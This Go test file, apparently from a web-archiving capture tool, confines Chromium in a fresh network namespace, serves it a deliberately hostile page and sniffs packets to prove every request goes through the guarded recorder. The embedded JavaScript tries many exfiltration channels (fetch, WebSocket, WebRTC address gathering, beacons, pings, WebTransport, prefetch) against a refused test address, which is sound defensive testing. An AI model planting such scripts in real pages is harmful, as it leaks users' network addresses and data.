// SPDX-License-Identifier: Apache-2.0

package capture

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// The browser must reach nothing except through the guard: a captured page
// is hostile, and a packet that leaves the capture host on its behalf can
// reveal the host's addresses (WebRTC), probe its network, or exfiltrate.
// TestCaptureBrowserConfinedToGuard proves it with packets, not flags: it
// re-runs itself in a fresh network and mount namespace. The network holds
// only loopback and one veth pair carrying the default routes, so packets
// to the internet are transmitted, and seen, instead of failing with
// "network unreachable"; the resolver is Google Public DNS. A packet socket
// sees every packet any interface sends. The hostile page below tries every
// path we know of; afterwards each TCP or UDP packet must belong to a
// connection the guarded recorder made to the allowed servers, or be
// refused by the dead proxy.

// netnsChildEnv marks the copy of the test binary running inside the
// namespace.
const netnsChildEnv = "GROUNDTRUTH_NETNS_CHILD"

// refusedHost is a private address the guard refuses. Inside the namespace
// it is routed to the veth, so anything sent to it is seen.
const refusedHost = "10.11.12.13"

func TestCaptureBrowserConfinedToGuard(t *testing.T) {
	if os.Getenv(netnsChildEnv) == "1" {
		confinedCapture(t)
		return
	}
	chromiumOrSkip(t)
	if os.Geteuid() != 0 {
		requireTool(t, "the network namespace test needs root (CLONE_NEWNET, packet sockets)")
	}
	if _, err := exec.LookPath("ip"); err != nil {
		requireTool(t, "ip (iproute2) not installed: apt-get install iproute2")
	}
	cmd := exec.CommandContext(t.Context(), os.Args[0],
		"-test.run=^TestCaptureBrowserConfinedToGuard$", "-test.v", "-test.count=1", "-test.timeout=5m")
	cmd.Env = append(os.Environ(), netnsChildEnv+"=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS}
	out, err := cmd.CombinedOutput()
	if err != nil && cmd.ProcessState == nil {
		requireTool(t, fmt.Sprintf("cannot start a process in a new network namespace: %v", err))
	}
	t.Logf("inside the network namespace:\n%s", out)
	if err != nil {
		t.Fatalf("capture inside the network namespace failed: %v (its output is above)", err)
	}
	if strings.Contains(string(out), "--- SKIP") {
		t.Skip("skipped inside the network namespace (reason above)")
	}
}

// confinedCapture runs inside the fresh namespace.
func confinedCapture(t *testing.T) {
	// Refuse to reconfigure namespaces that are not the fresh ones the
	// parent made: these commands must never touch the host's network or
	// its mounts.
	for _, ns := range []string{"net", "mnt"} {
		self, err1 := os.Readlink("/proc/self/ns/" + ns)
		parent, err2 := os.Readlink(fmt.Sprintf("/proc/%d/ns/%s", os.Getppid(), ns))
		if err1 != nil || err2 != nil || self == parent {
			t.Fatalf("not in a namespace of its own (%s: %s, parent %s, %v, %v); refusing to configure it", ns, self, parent, err1, err2)
		}
	}
	ifs, err := net.Interfaces()
	if err != nil {
		t.Fatalf("list interfaces: %v", err)
	}
	for _, i := range ifs {
		if i.Name != "lo" {
			t.Fatalf("not in a fresh network namespace (interface %s present); refusing to configure it", i.Name)
		}
	}
	for _, args := range [][]string{
		{"link", "set", "dev", "lo", "up"},
		{"link", "add", "gt-out", "type", "veth", "peer", "name", "gt-sink"},
		// No ARP or neighbour discovery: a packet to any address is
		// transmitted at once rather than waiting for a neighbour that
		// will never answer.
		{"link", "set", "dev", "gt-out", "arp", "off", "up"},
		{"link", "set", "dev", "gt-sink", "up"},
		{"addr", "add", "198.18.0.1/24", "dev", "gt-out"},
		{"-6", "addr", "add", "2001:db8:1::1/64", "dev", "gt-out", "nodad"},
		{"route", "add", "default", "dev", "gt-out"},
		{"-6", "route", "add", "default", "dev", "gt-out"},
	} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v: %s", strings.Join(args, " "), err, out)
		}
	}
	// The resolver is Google Public DNS, for which Chromium would switch
	// to DNS over HTTPS on its own; its packets would leave by the veth.
	if err := syscall.Mount("", "/", "", syscall.MS_REC|syscall.MS_PRIVATE, ""); err != nil {
		t.Fatalf("make mounts private: %v", err)
	}
	resolv := t.TempDir() + "/resolv.conf"
	if err := os.WriteFile(resolv, []byte("nameserver 8.8.8.8\nnameserver 2001:4860:4860::8888\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount(resolv, "/etc/resolv.conf", "", syscall.MS_BIND, ""); err != nil {
		t.Fatalf("bind %s on /etc/resolv.conf: %v", resolv, err)
	}
	sn := sniff(t)
	barrier := listenDeadProxy(t)

	done := make(chan string, 1)
	var doneOnce sync.Once
	var mu sync.Mutex
	var served []string // request URIs the test servers answered
	frame := serveOn(t, "127.0.0.3", logRequests(&mu, &served, hostileFrameSite()))
	site := serveOn(t, "127.0.0.2", logRequests(&mu, &served, leakySite(t, frame.URL, func(report string) {
		doneOnce.Do(func() { done <- report })
	})))

	cfg := testConfig()
	cfg.Chromium = chromiumOrSkip(t)
	cfg.Timeout = 3 * time.Minute
	cfg.Allow = []netip.Prefix{mustPrefix("127.0.0.2/32"), mustPrefix("127.0.0.3/32")}
	dir := t.TempDir()
	res, err := Capture(t.Context(), cfg, site.URL+"/hostile", dir, nil)
	if err != nil {
		t.Fatalf("Capture: %v (failures %q)", err, res.Failures)
	}
	select {
	case report := <-done:
		t.Logf("the page's scripts ran: %s", report)
		// WebRTC gathers no candidate at all: the page learns none of
		// the host's addresses, which it could send out in a URL.
		if !strings.Contains(report, `"webrtc":"0 candidates`) {
			t.Errorf("WebRTC gathered ICE candidates; the page can read the host's addresses")
		}
	default:
		t.Fatalf("the hostile page never reported that its scripts ran; failures %q", res.Failures)
	}
	t.Logf("capture failures: %q", res.Failures)

	allowed := []netip.AddrPort{addrPortOf(t, site.URL), addrPortOf(t, frame.URL)}
	escaped := sn.stop(t)
	// Connections to the dead proxy are requests that the interception
	// does not see (WebSockets, frames in other processes, a service
	// worker's script): the proxy refuses them on loopback, so they never
	// leave. They are counted, not forbidden.
	dead := netip.MustParseAddrPort(deadProxy)
	var bad, stopped []string
	for _, f := range escaped {
		switch {
		case f.proto == "tcp" && (slices.Contains(allowed, f.src) || slices.Contains(allowed, f.dst)):
		case f.proto == "tcp" && (f.src == dead || f.dst == dead):
			stopped = append(stopped, f.String())
		default:
			bad = append(bad, f.String())
		}
	}
	t.Logf("%d packet(s) to and from the dead proxy %s; the requests it turned away:\n%s", len(stopped), deadProxy, summarise(barrier.lines()))
	if len(bad) > 0 {
		t.Errorf("the browser sent %d packet(s) outside the guarded recorder:\n%s", len(bad), summarise(bad))
	}

	// Every request the servers answered went through the recorder: a
	// browser connecting to an allowed server on its own would pass the
	// packet check above, but not this one.
	recorded := map[string]bool{}
	for _, r := range readWARC(t, dir+"/capture.warc.gz") {
		if r.Type == "request" {
			recorded[r.URI] = true
		}
	}
	mu.Lock()
	defer mu.Unlock()
	// A worker's and a cross-site frame's requests are answered by the
	// recorder too, not left to the dead proxy.
	for _, u := range []string{site.URL + "/from-worker", frame.URL + "/from-frame"} {
		if !slices.Contains(served, u) {
			t.Errorf("%s never reached the server through the recorder", u)
		}
	}
	for _, u := range served {
		if !recorded[u] {
			t.Errorf("server answered %s, which is not in the WARC: the browser fetched it around the recorder", u)
		}
	}
}

// proxyLog stands in for the dead proxy inside the namespace, to name the
// requests that reach it: it reads each request line, refuses it and
// hangs up, as a refused connection would.
type proxyLog struct {
	mu  sync.Mutex
	got []string
}

func (p *proxyLog) lines() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return slices.Clone(p.got)
}

func listenDeadProxy(t *testing.T) *proxyLog {
	t.Helper()
	ln, err := net.Listen("tcp", deadProxy)
	if err != nil {
		t.Fatalf("listen on the dead proxy's address %s: %v", deadProxy, err)
	}
	t.Cleanup(func() { ln.Close() })
	p := &proxyLog{}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				line, err := bufio.NewReader(c).ReadString('\n')
				if err != nil && line == "" {
					line = "(connection opened, nothing sent)"
				}
				p.mu.Lock()
				p.got = append(p.got, strings.TrimSpace(line))
				p.mu.Unlock()
				io.WriteString(c, "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			}()
		}
	}()
	return p
}

// logRequests records the absolute URL of each request h answers.
func logRequests(mu *sync.Mutex, served *[]string, h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		*served = append(*served, "http://"+r.Host+r.URL.RequestURI())
		mu.Unlock()
		h.ServeHTTP(w, r)
	})
}

func addrPortOf(t *testing.T, rawURL string) netip.AddrPort {
	t.Helper()
	ap, err := netip.ParseAddrPort(strings.TrimPrefix(rawURL, "http://"))
	if err != nil {
		t.Fatalf("server address %q: %v", rawURL, err)
	}
	return ap
}

// hostileJS tries, from a page, a frame or a worker, every way to send
// bytes we could think of; each attempt settles (or gives up after 15 s)
// and reports its outcome. %[1]s is the refused private address. Port 8000
// is not on Chromium's list of unsafe ports, which would stop some
// attempts before they reach the network.
const hostileJS = `
const refused = '%[1]s';
const settle = (p, ms = 15000) => Promise.race([Promise.resolve().then(p), new Promise(r => setTimeout(() => r('gave up waiting'), ms))])
	.then(v => String(v), e => 'error: ' + e);
const socket = u => new Promise(r => { try { const w = new WebSocket(u); w.onopen = () => r('open'); w.onerror = () => r('error'); } catch (e) { r('throws: ' + e); } });
const fetches = () => Promise.allSettled([
	fetch('http://127.0.0.1:8000/fetch', {mode: 'no-cors'}),
	fetch('http://[::1]:8000/fetch', {mode: 'no-cors'}),
	fetch('http://' + refused + ':8000/fetch', {mode: 'no-cors'}),
	fetch('https://' + refused + '/fetch', {mode: 'no-cors'}),
	fetch('http://' + refused + ':8000/post', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true}),
]).then(rs => rs.map(r => r.status).join(','));
const sockets = () => Promise.all(['ws://127.0.0.1:8000/', 'ws://' + refused + ':8000/', 'wss://' + refused + '/'].map(socket)).then(rs => rs.join(','));
`

func leakySite(t testing.TB, frameURL string, report func(string)) http.Handler {
	png1 := testPNG(t, 8, 8)
	released := make(chan struct{})
	var once sync.Once
	mux := http.NewServeMux()
	mux.HandleFunc("GET /hostile", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Security-Policy", "img-src 'self'; report-uri http://"+refusedHost+":8000/csp")
		fmt.Fprintf(w, hostilePage, refusedHost, frameURL, fmt.Sprintf(hostileJS, refusedHost))
	})
	// The page's load event waits for /gate.js, which waits for the
	// page's report: so the capture cannot end before every attempt has
	// settled, and the test waits on that event, not on a clock.
	mux.HandleFunc("GET /gate.js", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-released:
		case <-r.Context().Done():
		}
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, "// released\n")
	})
	mux.HandleFunc("GET /done", func(w http.ResponseWriter, r *http.Request) {
		report(r.URL.Query().Get("r"))
		once.Do(func() { close(released) })
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("GET /sw.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, "%s\nself.addEventListener('install', e => e.waitUntil(Promise.all([fetches(), sockets(), fetch('/from-sw')])));\n",
			fmt.Sprintf(hostileJS, refusedHost))
	})
	mux.HandleFunc("GET /worker.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, "%s\nPromise.all([settle(fetches), settle(sockets), settle(() => fetch('/from-worker').then(r => r.status))]).then(rs => postMessage(rs.join(' | ')));\n",
			fmt.Sprintf(hostileJS, refusedHost))
	})
	mux.HandleFunc("GET /prerendered", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<script>%s\nfetches(); sockets();</script>", fmt.Sprintf(hostileJS, refusedHost))
	})
	mux.HandleFunc("GET /", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/png")
		w.Write(png1)
	})
	return mux
}

// hostileFrameSite serves a cross-site frame: Chromium puts it in its own
// renderer process (an out-of-process iframe).
func hostileFrameSite() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /frame", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<p>frame</p><img src="http://%[1]s:8000/frame.png"><script>%[2]s
Promise.all([settle(fetches), settle(sockets), settle(() => fetch('/from-frame').then(r => r.status))]).then(rs => parent.postMessage('frame: ' + rs.join(' | '), '*'));
</script>`, refusedHost, fmt.Sprintf(hostileJS, refusedHost))
	})
	mux.HandleFunc("GET /", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	return mux
}

// hostilePage: %[1]s refused address, %[2]s frame origin, %[3]s hostileJS.
const hostilePage = `<!doctype html>
<html><head><title>Hostile page</title>
<link rel="dns-prefetch" href="//dns-prefetch.groundtruth-test.example">
<link rel="preconnect" href="http://%[1]s:81">
<link rel="preconnect" href="https://preconnect.groundtruth-test.example">
<link rel="prefetch" href="http://%[1]s:82/prefetch">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://%[1]s:83/speculative", "/prefetched"]}],
 "prerender": [{"source": "list", "urls": ["/prerendered"]}]}</script>
</head><body>
<h1>Hostile page</h1>
<img src="%[2]s/violates-csp.png">
<iframe src="%[2]s/frame"></iframe>
<iframe src="http://%[1]s:8000/frame"></iframe>
<script>%[3]s
const webrtc = async () => {
	const pc = new RTCPeerConnection({iceServers: [
		{urls: ['stun:127.0.0.1:3478', 'stun:' + refused + ':3478', 'stun:[::1]:3478', 'stun:stun.groundtruth-test.example:3478']},
		{urls: ['turn:' + refused + ':3478?transport=udp', 'turn:' + refused + ':3478?transport=tcp'], username: 'u', credential: 'p'}]});
	pc.createDataChannel('x');
	const cands = [];
	const gathered = new Promise(r => { pc.onicecandidate = e => { if (e.candidate) cands.push(e.candidate.candidate); else r(); }; });
	await pc.setLocalDescription(await pc.createOffer());
	await gathered;
	return cands.length + ' candidates ' + cands.join(' ; ');
};
const transport = async () => { const wt = new WebTransport('https://' + refused + ':4433/'); await wt.ready; return 'ready'; };
const serviceWorker = async () => { await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready; return 'active'; };
const worker = () => new Promise(r => { const w = new Worker('/worker.js'); w.onmessage = e => r(e.data); w.onerror = e => r('error ' + e.message); });
const frame = new Promise(r => addEventListener('message', e => r(e.data)));
const events = () => new Promise(r => { const s = new EventSource('http://' + refused + ':8000/events'); s.onerror = () => { s.close(); r('error'); }; s.onopen = () => r('open'); });
const results = {};
const attempts = {webrtc, fetches, sockets, transport, serviceWorker, worker, events,
	frame: () => frame,
	beacon: () => navigator.sendBeacon('http://' + refused + ':8000/beacon', 'x'),
	ping: () => { const a = document.createElement('a'); a.href = '#pinged'; a.ping = 'http://' + refused + ':8000/ping'; document.body.append(a); a.click(); return 'clicked'; },
	popup: () => { const w = window.open('http://' + refused + ':8000/popup'); return w ? 'opened' : 'blocked'; },
};
Promise.all(Object.entries(attempts).map(([k, f]) => settle(f).then(v => results[k] = v)))
	.then(() => fetch('/done?r=' + encodeURIComponent(JSON.stringify(results))));
</script>
<script src="/gate.js" async></script>
</body></html>`

// flow is one TCP or UDP packet as seen on the wire.
type flow struct {
	proto    string // "tcp", "udp", or "ip proto N"
	src, dst netip.AddrPort
	iface    string
}

// String names the flow with the client's port written as *, so that
// repeated attempts summarise to one line. The client's port is taken to be
// the larger one, unless it is below 1024.
func (f flow) String() string {
	port := func(ap, other netip.AddrPort) string {
		if ap.Port() > other.Port() && ap.Port() >= 1024 {
			return net.JoinHostPort(ap.Addr().String(), "*")
		}
		return ap.String()
	}
	return fmt.Sprintf("%s %s -> %s on %s", f.proto, port(f.src, f.dst), port(f.dst, f.src), f.iface)
}

// summarise counts identical lines.
func summarise(lines []string) string {
	n := map[string]int{}
	var order []string
	for _, l := range lines {
		if n[l] == 0 {
			order = append(order, l)
		}
		n[l]++
	}
	var b strings.Builder
	for _, l := range order {
		fmt.Fprintf(&b, "\t%s (%d)\n", l, n[l])
	}
	return b.String()
}

// sniffer reads every packet sent on any interface of the namespace from
// an AF_PACKET socket.
type sniffer struct {
	f      *os.File
	mu     sync.Mutex
	flows  []flow
	marker netip.AddrPort
	seen   chan struct{} // closed when the marker packet was read
	ended  chan struct{}
}

func sniff(t *testing.T) *sniffer {
	t.Helper()
	const ethPAll = 0x0003
	proto := int(ethPAll>>8 | (ethPAll&0xff)<<8) // network byte order
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM|syscall.SOCK_NONBLOCK|syscall.SOCK_CLOEXEC, proto)
	if err != nil {
		t.Fatalf("packet socket: %v", err)
	}
	// A large buffer, so a burst of page bytes on loopback is not dropped
	// before the reader catches up.
	syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_RCVBUFFORCE, 32<<20)
	s := &sniffer{
		f:      os.NewFile(uintptr(fd), "packet socket"),
		marker: netip.MustParseAddrPort("127.0.0.4:9"),
		seen:   make(chan struct{}),
		ended:  make(chan struct{}),
	}
	rc, err := s.f.SyscallConn()
	if err != nil {
		t.Fatalf("packet socket: %v", err)
	}
	names := map[int]string{}
	go func() {
		defer close(s.ended)
		buf := make([]byte, 1<<16)
		var marked bool
		for {
			var n int
			var from syscall.Sockaddr
			var rerr error
			err := rc.Read(func(fd uintptr) bool {
				n, from, rerr = syscall.Recvfrom(int(fd), buf, 0)
				return rerr != syscall.EAGAIN
			})
			if err != nil {
				return // closed
			}
			ll, ok := from.(*syscall.SockaddrLinklayer)
			// Each packet counted once, as its interface sends it.
			if rerr != nil || !ok || ll.Pkttype != syscall.PACKET_OUTGOING {
				continue
			}
			f, ok := parsePacket(buf[:n])
			if !ok {
				continue
			}
			if f.dst == s.marker {
				if !marked {
					marked = true
					close(s.seen)
				}
				continue
			}
			if names[ll.Ifindex] == "" {
				names[ll.Ifindex] = fmt.Sprint(ll.Ifindex)
				if i, err := net.InterfaceByIndex(ll.Ifindex); err == nil {
					names[ll.Ifindex] = i.Name
				}
			}
			f.iface = names[ll.Ifindex]
			s.mu.Lock()
			s.flows = append(s.flows, f)
			s.mu.Unlock()
		}
	}()
	t.Cleanup(func() { s.f.Close(); <-s.ended })
	return s
}

// stop sends a marker packet and, once it has been read back, returns
// every packet seen before it. Packet sockets receive in send order, so
// everything sent before the marker has been read by then.
func (s *sniffer) stop(t *testing.T) []flow {
	t.Helper()
	c, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(s.marker))
	if err != nil {
		t.Fatalf("marker: %v", err)
	}
	defer c.Close()
	if _, err := c.Write([]byte("end of capture")); err != nil {
		t.Fatalf("marker: %v", err)
	}
	select {
	case <-s.seen:
	case <-s.ended:
		t.Fatalf("packet socket closed before the marker arrived")
	case <-t.Context().Done():
		t.Fatalf("marker packet never seen: %v", t.Context().Err())
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.flows)
}

// parsePacket reads the protocol, addresses and ports of an IPv4 or IPv6
// packet. Control traffic the kernel sends by itself (ICMP, IGMP, MLD,
// router solicitations) is not the browser's and is left out.
func parsePacket(b []byte) (flow, bool) {
	var f flow
	var proto byte
	var l4 []byte
	switch {
	case len(b) >= 20 && b[0]>>4 == 4:
		ihl := int(b[0]&0x0f) * 4
		if len(b) < ihl {
			return f, false
		}
		proto = b[9]
		src, dst := netip.AddrFrom4([4]byte(b[12:16])), netip.AddrFrom4([4]byte(b[16:20]))
		f.src, f.dst = netip.AddrPortFrom(src, 0), netip.AddrPortFrom(dst, 0)
		if binary.BigEndian.Uint16(b[6:8])&0x1fff == 0 { // first fragment
			l4 = b[ihl:]
		}
	case len(b) >= 40 && b[0]>>4 == 6:
		proto = b[6]
		src, dst := netip.AddrFrom16([16]byte(b[8:24])), netip.AddrFrom16([16]byte(b[24:40]))
		f.src, f.dst = netip.AddrPortFrom(src, 0), netip.AddrPortFrom(dst, 0)
		l4 = b[40:]
		// Skip hop-by-hop, routing and destination options headers
		// (MLD reports carry one); fragments after the first are opaque.
		for (proto == 0 || proto == 43 || proto == 60) && len(l4) >= 8 {
			n := (int(l4[1]) + 1) * 8
			if len(l4) < n {
				return f, false
			}
			proto, l4 = l4[0], l4[n:]
		}
	default:
		return f, false
	}
	switch proto {
	case syscall.IPPROTO_TCP:
		f.proto = "tcp"
	case syscall.IPPROTO_UDP:
		f.proto = "udp"
	case syscall.IPPROTO_ICMP, syscall.IPPROTO_ICMPV6, syscall.IPPROTO_IGMP:
		return f, false
	default:
		f.proto = fmt.Sprintf("ip proto %d", proto)
		return f, true
	}
	if len(l4) >= 4 {
		f.src = netip.AddrPortFrom(f.src.Addr(), binary.BigEndian.Uint16(l4[0:2]))
		f.dst = netip.AddrPortFrom(f.dst.Addr(), binary.BigEndian.Uint16(l4[2:4]))
	}
	return f, true
}
